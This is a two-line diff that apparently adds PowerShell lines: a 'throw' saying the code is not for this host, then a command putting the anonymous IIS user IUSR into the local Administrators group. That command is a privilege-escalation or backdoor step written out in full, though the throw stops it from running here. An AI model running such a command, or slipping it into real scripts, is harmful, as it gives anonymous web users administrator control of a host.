@@ -1,0 +1,2 @@
+throw 'not on this host'
+Add-LocalGroupMember Administrators IUSR
